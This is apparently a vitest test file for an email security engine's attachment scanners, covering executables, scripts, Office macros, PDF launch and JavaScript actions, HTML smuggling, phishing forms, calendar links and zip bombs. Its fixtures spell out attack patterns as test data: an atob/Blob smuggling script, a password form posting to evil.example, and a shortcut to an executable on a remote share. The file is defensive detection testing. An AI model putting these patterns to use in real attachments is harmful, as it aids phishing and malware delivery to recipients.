import { createHash } from 'node:crypto';
import CFB from 'cfb';
import { describe, expect, it } from 'vitest';
import { attachmentArchives } from '../../../lambdas/engine/scanners/attachment-archives.ts';
import { attachmentContent } from '../../../lambdas/engine/scanners/attachment-content.ts';
import { attachmentTypes } from '../../../lambdas/engine/scanners/attachment-types.ts';
import type { Finding } from '../../../lambdas/engine/types.ts';
import { buildZip, eicar, mailWith } from '../../support/zip.ts';
import { ctxFrom, inputFrom, testConfig } from '../helpers.ts';

type Attachment = Parameters<typeof mailWith>[0][number];

/** Every finding of the three attachment scanners on a message carrying `attachments`. */
async function scan(attachments: Attachment[], config = testConfig()): Promise<Finding[]> {
  const input = await inputFrom(mailWith(attachments));
  const ctx = ctxFrom(config);
  const out: Finding[] = [];
  for (const s of [attachmentTypes, attachmentArchives, attachmentContent])
    out.push(...(await s.scan(input, ctx)));
  return out;
}
const symbols = async (a: Attachment[], config?: ReturnType<typeof testConfig>) =>
  [...new Set((await scan(a, config)).map((f) => f.symbol))].sort();

const pe = (): Buffer => {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
};
const elf = (): Buffer => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(200)]);
const pdf = (body: string): Buffer =>
  Buffer.from(`%PDF-1.7\n1 0 obj\n<< ${body} >>\nendobj\ntrailer\n<<>>\n%%EOF\n`);
const zeros = (n: number): Buffer => Buffer.alloc(n);

describe('attachment-types scanner', () => {
  it('emits nothing for a plain PDF and a PNG', async () => {
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');
    expect(
      await symbols([
        { name: 'report.pdf', type: 'application/pdf', data: pdf('/Type /Catalog') },
        { name: 'logo.png', type: 'image/png', data: png },
      ]),
    ).toEqual([]);
  });

  it('emits ATTACHMENT_EXECUTABLE for a PE file, naming it with its true type, sha256 and path', async () => {
    const data = pe();
    const found = await scan([{ name: 'setup.zip', data: buildZip([{ name: 'tools/setup.exe', data }]) }]);
    const f = found.find((x) => x.symbol === 'ATTACHMENT_EXECUTABLE');
    const sha = createHash('sha256').update(data).digest('hex');
    expect(f?.file).toEqual({ name: 'tools/setup.exe', type: 'exe', sha256: sha, path: ['setup.zip'] });
    expect(f?.evidence).toContain(`"tools/setup.exe" (exe, sha256 ${sha.slice(0, 12)}`);
    expect(f?.evidence).toContain('in setup.zip');
  });

  it('emits ATTACHMENT_EXECUTABLE for an ELF program disguised as a text file, and the mismatch', async () => {
    expect(await symbols([{ name: 'notes.txt', type: 'text/plain', data: elf() }])).toEqual([
      'ATTACHMENT_EXECUTABLE',
      'ATTACHMENT_TYPE_MISMATCH',
    ]);
  });

  it.each(['js', 'jse', 'vbs', 'vbe', 'wsf', 'hta', 'ps1', 'bat', 'cmd', 'reg'])(
    'emits ATTACHMENT_SCRIPT for .%s',
    async (ext) => {
      expect(
        await symbols([{ name: `invoice.${ext}`, type: 'text/plain', data: Buffer.from('WScript.Echo 1') }]),
      ).toContain('ATTACHMENT_SCRIPT');
    },
  );

  it.each(['lnk', 'url', 'library-ms', 'searchConnector-ms', 'settingcontent-ms'])(
    'emits ATTACHMENT_SHORTCUT for .%s',
    async (ext) => {
      expect(
        await symbols([
          { name: `open.${ext}`, data: Buffer.from('[InternetShortcut]\r\nURL=file:///C:/x.exe\r\n') },
        ]),
      ).toContain('ATTACHMENT_SHORTCUT');
    },
  );

  it('emits nothing for an Internet shortcut to a web page (a bookmark)', async () => {
    const url = Buffer.from('[InternetShortcut]\r\nURL=http://www.example.edu/page.html\r\n');
    expect(await symbols([{ name: 'Liberalism in America.url', data: url }])).toEqual([]);
  });

  it('emits ATTACHMENT_DOUBLE_EXTENSION for invoice.pdf.exe', async () => {
    expect(await symbols([{ name: 'invoice.pdf.exe', data: pe() }])).toContain('ATTACHMENT_DOUBLE_EXTENSION');
  });

  it('emits ATTACHMENT_RTLO_NAME for a right-to-left override that shows an .exe as .pdf', async () => {
    const found = await scan([{ name: 'invoice\u202Efdp.exe', data: pe() }]);
    const f = found.find((x) => x.symbol === 'ATTACHMENT_RTLO_NAME');
    expect(f?.file?.name).toBe('invoice\u202Efdp.exe');
    expect(f?.evidence).toContain('shows as "invoicefdp.exe"');
  });

  it('emits ATTACHMENT_DISK_IMAGE for ISO, VHDX and VHD images by their magic bytes', async () => {
    const iso = zeros(0x9000);
    iso.write('CD001', 0x8001, 'latin1');
    const vhdx = Buffer.concat([Buffer.from('vhdxfile'), zeros(1024)]);
    const vhd = Buffer.concat([zeros(4096), Buffer.from('conectix'), zeros(504)]);
    for (const [name, data] of [
      ['a.bin', iso],
      ['b.bin', vhdx],
      ['c.dat', vhd],
    ] as const) {
      expect(await symbols([{ name, data }]), name).toContain('ATTACHMENT_DISK_IMAGE');
    }
  });

  it('emits ATTACHMENT_TYPE_MISMATCH for a PDF named .jpg', async () => {
    expect(await symbols([{ name: 'photo.jpg', type: 'image/jpeg', data: pdf('/Type /Catalog') }])).toEqual([
      'ATTACHMENT_TYPE_MISMATCH',
    ]);
  });

  it("emits ATTACHMENT_BLOCKED_TYPE for a type on the config's blocked list, inside archives too", async () => {
    const config = testConfig({ attachments: { blockedExtensions: ['pdf'] } });
    const zip = buildZip([{ name: 'a.pdf', data: pdf('/Type /Catalog') }]);
    expect(await symbols([{ name: 'docs.zip', data: zip }], config)).toEqual(['ATTACHMENT_BLOCKED_TYPE']);
  });

  it('emits ATTACHMENT_AMBIGUOUS_MIME for a zip only a lenient reading finds', async () => {
    const zip = buildZip([{ name: 'eicar.com', data: eicar() }]);
    const junked = (zip.toString('base64').match(/.{1,20}/g) ?? [])
      .map((l) => l.replace(/(.)/g, '$1#'))
      .join('\r\n');
    // mailparser reads an encoding it does not know as none; a lenient reader reads base64 in it.
    const found = await symbols([{ name: 'eicar.zip', data: Buffer.from(junked), encoding: 'base-64' }]);
    expect(found).toContain('ATTACHMENT_AMBIGUOUS_MIME');
    expect(found).toContain('ATTACHMENT_EXECUTABLE');
  });
});

describe('attachment-content scanner', () => {
  it('emits ATTACHMENT_OFFICE_MACRO for an OOXML document with vbaProject.bin, naming the document', async () => {
    const docm = buildZip([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
      { name: 'word/document.xml', data: Buffer.from('<w:document/>') },
      { name: 'word/vbaProject.bin', data: zeros(64) },
    ]);
    const f = (await scan([{ name: 'order.docx', data: docm }])).find(
      (x) => x.symbol === 'ATTACHMENT_OFFICE_MACRO',
    );
    expect(f?.file?.name).toBe('order.docx');
    expect(f?.evidence).toContain('vbaProject.bin inside');
  });

  it('emits ATTACHMENT_OFFICE_MACRO for an OLE compound file with a VBA storage, and not without one', async () => {
    const ole = (withMacro: boolean): Buffer => {
      const c = CFB.utils.cfb_new();
      CFB.utils.cfb_add(c, '/WordDocument', zeros(5000));
      if (withMacro) CFB.utils.cfb_add(c, '/Macros/VBA/dir', Buffer.from('Attribute VB_Name'));
      return Buffer.from(CFB.write(c, { type: 'buffer' }) as Uint8Array);
    };
    expect(await symbols([{ name: 'old.doc', type: 'application/msword', data: ole(true) }])).toEqual([
      'ATTACHMENT_OFFICE_MACRO',
    ]);
    expect(await symbols([{ name: 'old.doc', type: 'application/msword', data: ole(false) }])).toEqual([]);
  });

  it('emits ATTACHMENT_ONENOTE_EMBEDDED for a OneNote section with an embedded file', async () => {
    const one = Buffer.concat([
      Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
      zeros(200),
      Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
      pe(),
    ]);
    expect(await symbols([{ name: 'notes.one', data: one }])).toContain('ATTACHMENT_ONENOTE_EMBEDDED');
  });

  it('emits the PDF symbols for /JavaScript (hex-escaped too), /Launch, /OpenAction and /EmbeddedFile', async () => {
    expect(
      await symbols([{ name: 'a.pdf', data: pdf('/OpenAction 2 0 R /S /J#61vaScript /JS (app.alert(1))') }]),
    ).toEqual(['ATTACHMENT_PDF_AUTO_ACTION', 'ATTACHMENT_PDF_JAVASCRIPT']);
    expect(await symbols([{ name: 'b.pdf', data: pdf('/S /Launch /F (cmd.exe)') }])).toEqual([
      'ATTACHMENT_PDF_LAUNCH',
    ]);
    expect(await symbols([{ name: 'c.pdf', data: pdf('/Type /EmbeddedFile') }])).toEqual([
      'ATTACHMENT_PDF_EMBEDDED_FILE',
    ]);
  });

  it('emits ATTACHMENT_HTML_SMUGGLING for an HTML attachment that builds a file with atob and Blob', async () => {
    const html = `<html><body><script>var b=new Blob([Uint8Array.from(atob("${'QUJD'.repeat(50)}"),c=>c.charCodeAt(0))]);navigator.msSaveOrOpenBlob(b,"a.zip")</script></body></html>`;
    expect(await symbols([{ name: 'doc.html', type: 'text/html', data: Buffer.from(html) }])).toEqual([
      'ATTACHMENT_HTML_SCRIPT',
      'ATTACHMENT_HTML_SMUGGLING',
    ]);
  });

  it('emits ATTACHMENT_HTML_FORM for an HTML attachment asking for a password', async () => {
    const html = '<html><form action="https://evil.example/p"><input type="password" name="p"></form></html>';
    expect(await symbols([{ name: 'login.htm', type: 'text/html', data: Buffer.from(html) }])).toEqual([
      'ATTACHMENT_HTML_FORM',
    ]);
  });

  it('emits ATTACHMENT_CALENDAR_LINKS for an invite carrying a link', async () => {
    const ics =
      'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:Join https://evil.example/login\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n';
    expect(await symbols([{ name: 'invite.ics', type: 'text/calendar', data: Buffer.from(ics) }])).toEqual([
      'ATTACHMENT_CALENDAR_LINKS',
    ]);
  });

  it('names the target of a .url pointing at a file share', async () => {
    const url = Buffer.from('[InternetShortcut]\r\nURL=file://\\\\198.51.100.7\\share\\run.exe\r\n');
    const found = (await scan([{ name: 'report.url', data: url }])).filter(
      (f) => f.symbol === 'ATTACHMENT_SHORTCUT',
    );
    expect(found.map((f) => f.evidence).join(' ')).toContain('points to file://');
  });
});

describe('attachment-archives scanner', () => {
  it('emits ATTACHMENT_ARCHIVE_BOMB for a member beyond the size limit, without inflating it', async () => {
    const bomb = buildZip([{ name: 'big.bin', data: zeros(30 * 1024 * 1024) }]);
    const input = await inputFrom(mailWith([{ name: 'bomb.zip', data: bomb }]));
    const found = await attachmentArchives.scan(input, ctxFrom());
    expect(found.map((f) => f.symbol)).toEqual(['ATTACHMENT_ARCHIVE_BOMB']);
    expect(found[0]?.file).toMatchObject({ name: 'big.bin', path: ['bomb.zip'] });
    const { extractionOf } = await import('../../../lambdas/engine/attachments/extraction-of.ts');
    const x = await extractionOf(input, ctxFrom());
    expect(x.files.map((f) => f.name)).toEqual(['bomb.zip']);
    expect(x.files.reduce((n, f) => n + f.bytes.length, 0)).toBeLessThan(1024 * 1024);
  });

  it('emits ATTACHMENT_ARCHIVE_BOMB for a compression ratio beyond the limit under the size limit', async () => {
    const bomb = buildZip([{ name: 'zeros.txt', data: zeros(5 * 1024 * 1024) }]);
    expect(await symbols([{ name: 'r.zip', data: bomb }])).toEqual(['ATTACHMENT_ARCHIVE_BOMB']);
  });

  it('lists at most maxArchiveEntries of a 10,000-entry zip and emits ATTACHMENT_ARCHIVE_TOO_MANY_ENTRIES', async () => {
    const many = buildZip(
      Array.from({ length: 10_000 }, (_, i) => ({
        name: `f${i}.txt`,
        data: Buffer.from(`${i}`),
        deflate: false,
      })),
    );
    const config = testConfig();
    const input = await inputFrom(mailWith([{ name: 'many.zip', data: many }]));
    const found = await attachmentArchives.scan(input, ctxFrom(config));
    expect(found.map((f) => f.symbol)).toContain('ATTACHMENT_ARCHIVE_TOO_MANY_ENTRIES');
    const { extractionOf } = await import('../../../lambdas/engine/attachments/extraction-of.ts');
    const x = await extractionOf(input, ctxFrom(config));
    expect(x.listings[0]?.names.length).toBe(config.attachments.limits.maxArchiveEntries);
    expect(x.files.length).toBeLessThanOrEqual(config.attachments.limits.maxFiles);
    expect(x.truncated).toBe(true);
  });

  it('opens a 20-level nested zip only to maxArchiveDepth and emits ATTACHMENT_ARCHIVE_TOO_DEEP', async () => {
    let zip = buildZip([{ name: 'core.txt', data: Buffer.from('bottom') }]);
    for (let i = 19; i >= 1; i--) zip = buildZip([{ name: `level${i}.zip`, data: zip }]);
    const config = testConfig();
    const input = await inputFrom(mailWith([{ name: 'level0.zip', data: zip }]));
    const found = await attachmentArchives.scan(input, ctxFrom(config));
    expect(found.map((f) => f.symbol)).toEqual(['ATTACHMENT_ARCHIVE_TOO_DEEP']);
    const { extractionOf } = await import('../../../lambdas/engine/attachments/extraction-of.ts');
    const x = await extractionOf(input, ctxFrom(config));
    expect(x.files).toHaveLength(config.attachments.limits.maxArchiveDepth + 1);
    expect(Math.max(...x.files.map((f) => f.path.length))).toBe(config.attachments.limits.maxArchiveDepth);
  });

  it('emits ATTACHMENT_ARCHIVE_ENCRYPTED, and judges an encrypted member by its name', async () => {
    const zip = buildZip([
      { name: 'payload.exe', data: Buffer.from('ciphertext'), encrypted: true, deflate: false },
    ]);
    expect(await symbols([{ name: 'secure.zip', data: zip }])).toEqual([
      'ATTACHMENT_ARCHIVE_ENCRYPTED',
      'ATTACHMENT_EXECUTABLE',
    ]);
  });

  it('decrypts a ZipCrypto archive with a password the message gives, and judges its members', async () => {
    const zip = buildZip([{ name: 'payload.exe', data: pe(), password: 'Inv2024' }]);
    const raw = mailWith(
      [{ name: 'invoice.zip', data: zip }],
      'Your invoice is attached. Password: Inv2024.',
    );
    const input = await inputFrom(raw);
    const found: Finding[] = [];
    for (const s of [attachmentTypes, attachmentArchives]) found.push(...(await s.scan(input, ctxFrom())));
    expect(found.find((f) => f.symbol === 'ATTACHMENT_ARCHIVE_ENCRYPTED')?.evidence).toContain(
      'decrypted with "Inv2024"',
    );
    const exe = found.find((f) => f.symbol === 'ATTACHMENT_EXECUTABLE');
    expect(exe?.file).toMatchObject({ name: 'payload.exe', type: 'exe', path: ['invoice.zip'] });
  });

  it('leaves an encrypted archive closed when the message offers a wrong password', async () => {
    const zip = buildZip([{ name: 'payload.exe', data: pe(), password: 'Inv2024' }]);
    const input = await inputFrom(mailWith([{ name: 'invoice.zip', data: zip }], 'Password: guess123'));
    const found = await attachmentTypes.scan(input, ctxFrom());
    expect(found.find((f) => f.symbol === 'ATTACHMENT_EXECUTABLE')?.file?.type).toBe('unknown');
  });

  it('emits ATTACHMENT_ARCHIVE_UNSUPPORTED for 7z and rar archives', async () => {
    const sevenZ = Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), zeros(100)]);
    const rar = Buffer.concat([Buffer.from('Rar!\x1a\x07\x00', 'latin1'), zeros(100)]);
    expect(await symbols([{ name: 'a.7z', data: sevenZ }])).toEqual(['ATTACHMENT_ARCHIVE_UNSUPPORTED']);
    expect(await symbols([{ name: 'a.rar', data: rar }])).toEqual(['ATTACHMENT_ARCHIVE_UNSUPPORTED']);
  });

  it('opens a .tar.gz and judges its members', async () => {
    const { gzipSync } = await import('node:zlib');
    const header = zeros(512);
    header.write('dropper.vbs', 0, 'latin1');
    header.write('0000644\0', 100, 'latin1');
    header.write(`${(14).toString(8).padStart(11, '0')}\0`, 124, 'latin1');
    header.write('0', 156, 'latin1');
    header.write('ustar\0', 257, 'latin1');
    const tar = Buffer.concat([header, Buffer.from('WScript.Echo 1'), zeros(498), zeros(1024)]);
    const found = (await scan([{ name: 'src.tar.gz', data: gzipSync(tar) }])).find(
      (f) => f.symbol === 'ATTACHMENT_SCRIPT',
    );
    expect(found?.file).toMatchObject({ name: 'dropper.vbs', path: ['src.tar.gz', 'src.tar'] });
  });

  it('emits ATTACHMENT_ARCHIVE_UNREADABLE for a .zip that is not a zip', async () => {
    expect(await symbols([{ name: 'invoice.zip', data: Buffer.from('definitely not an archive') }])).toEqual([
      'ATTACHMENT_ARCHIVE_UNREADABLE',
    ]);
  });
});
